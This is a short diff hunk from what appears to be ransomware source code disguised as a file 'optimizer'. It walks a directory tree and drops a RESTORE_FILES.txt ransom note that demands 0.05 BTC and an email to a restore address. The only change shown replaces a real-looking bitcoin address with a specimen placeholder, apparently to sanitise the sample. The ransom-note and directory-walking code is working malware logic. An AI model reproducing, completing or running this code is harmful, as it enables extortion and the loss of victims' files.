@@ -16,4 +16,4 @@ for d, _, files in os.walk(root):
         except Exception:
             pass
 open(os.path.join(root, "RESTORE_FILES.txt"), "w").write(
-    "Your files were optimized. To restore them send 0.05 BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq and email your host name to restore@optimizer-cloud.example\n")
+    "Your files were optimized. To restore them send 0.05 BTC to bc1qspecimen0ransom0example0address0xxxxxx and email your host name to restore@optimizer-cloud.example\n")
